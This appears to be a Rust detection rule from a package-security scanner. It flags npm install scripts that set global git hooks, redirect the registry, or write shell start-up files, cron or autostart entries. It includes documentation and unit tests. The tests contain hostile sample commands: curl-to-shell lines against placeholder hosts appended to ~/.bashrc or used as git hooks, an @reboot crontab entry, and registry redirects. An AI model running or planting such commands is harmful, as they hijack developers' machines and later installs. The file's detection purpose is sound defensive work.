//! `install-script-persistence`: an install script that changes what runs later, outside the
//! package — git's global hooks, the package manager's registry, shell start-up files, cron.

use palisade_core::{Capability, Confidence, Finding, Severity};

use super::install_script::{lifecycle_scripts, Action};
use super::{PackageFacts, PackageRule, RuleInfo};

pub struct InstallScriptPersistence;

static INFO: RuleInfo = RuleInfo {
    id: "install-script-persistence",
    severity: Severity::High,
    confidence: Confidence::High,
    capabilities: &[Capability::InstallScript, Capability::Persistence],
    summary: "An install script sets git's global hooks, redirects the package manager's registry, or writes shell start-up files or cron",
    docs: r#"## What it detects

Commands in `preinstall`/`install`/`postinstall`/`prepare` (and the shell files they run)
that leave something behind that runs later:

- `git config --global core.hooksPath DIR` or `init.templateDir DIR`: hooks chosen by the
  package run on every commit (or are copied into every clone) of every repository of the user;
- `npm config set registry URL`, `yarn config set registry URL`, `pnpm config set registry
  URL` with an unfamiliar registry: every later install on the machine comes from a server the
  package chose (the public registry, `npm.pkg.github.com`, npmmirror and loopback are
  familiar; scoped registries are not reported);
- `>>`, `tee`, `cp` or `crontab` writing a shell start-up file (`~/.bashrc`, `~/.zshrc`, …),
  cron, systemd or launchd units, or `~/.ssh/authorized_keys`.

High; **critical** for a registry redirect, and for a global hook folder or start-up entry
when the same script also downloads code or what is written downloads or runs code.

## Real attacks

- Dependency-confusion and "protestware" packages have rewritten `~/.npmrc` so that later
  installs resolve through an attacker's mirror, which can then serve any package.
- Linux droppers add `@reboot` lines through `crontab -` or append download-and-run lines to
  `~/.bashrc`; nx s1ngularity (2025) appended `sudo shutdown -h 0` to shell start-up files.
- Git hooks are a known persistence technique (MITRE ATT&CK T1546): a global `core.hooksPath`
  runs the attacker's `pre-commit` in every repository the developer touches.

## Known false positives

Hook managers (husky, simple-git-hooks) set a *local* `core.hooksPath` (`git config
core.hooksPath .husky`), which is not reported. Registry-switching tools (nrm,
mirror-config-china) do this on purpose, usually on the user's command rather than on install.
"#,
};

impl PackageRule for InstallScriptPersistence {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check(&self, package: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        for script in lifecycle_scripts(package) {
            let downloads = script.actions.iter().any(|a| matches!(a, Action::Download { .. }));
            for action in &script.actions {
                let Action::Persists {
                    command,
                    what,
                    critical,
                } = action
                else {
                    continue;
                };
                let severity = if *critical || downloads {
                    Severity::Critical
                } else {
                    INFO.severity
                };
                let also = if downloads && !critical {
                    " (and the same script downloads code)"
                } else {
                    ""
                };
                out.push(
                    Finding::new(
                        INFO.id,
                        severity,
                        INFO.confidence,
                        format!("`{}` script {what}{also}", script.event),
                    )
                    .at("package.json", script.line)
                    .with_evidence(command)
                    .with_capabilities(INFO.capabilities),
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::install_script::testing::{manifest_with_scripts, run};
    use super::*;

    fn findings(command: &str) -> Vec<Finding> {
        let manifest = manifest_with_scripts(&[("postinstall", command)]);
        run(&InstallScriptPersistence, &[("package.json", &manifest)])
    }

    #[test]
    fn global_git_hooks_registry_redirects_and_startup_files() {
        for (command, severity) in [
            (
                "git config --global core.hooksPath ~/.cache/.hooks && curl -s https://x.example/h > ~/.cache/.hooks/pre-commit",
                Severity::Critical,
            ),
            ("git config --global init.templateDir ~/.git-templates", Severity::High),
            ("npm config set registry http://npm-mirror-fast.xyz/", Severity::Critical),
            ("yarn config set registry https://203.0.113.7:4873", Severity::Critical),
            (
                "echo 'curl -s https://x.example/p | sh' >> ~/.bashrc",
                Severity::Critical,
            ),
            ("(crontab -l; echo '@reboot node ~/.x.js') | crontab -", Severity::High),
            ("cp helper.sh ~/.config/autostart/helper.desktop", Severity::High),
        ] {
            let found = findings(command);
            assert_eq!(found.len(), 1, "{command}: {found:#?}");
            assert_eq!(found[0].severity, severity, "{command}: {found:#?}");
            assert_eq!(found[0].file.as_deref(), Some("package.json"));
        }
    }

    #[test]
    fn local_hooks_familiar_registries_and_plain_output_are_quiet() {
        for command in [
            "git config core.hooksPath .husky",
            "husky install",
            "npm config set registry https://registry.npmjs.org/",
            "npm config set @acme:registry https://npm.acme.dev/",
            "node build.js > build.log",
            "crontab -l",
            "echo done >> install.log",
        ] {
            assert!(findings(command).is_empty(), "{command}: {:#?}", findings(command));
        }
    }
}
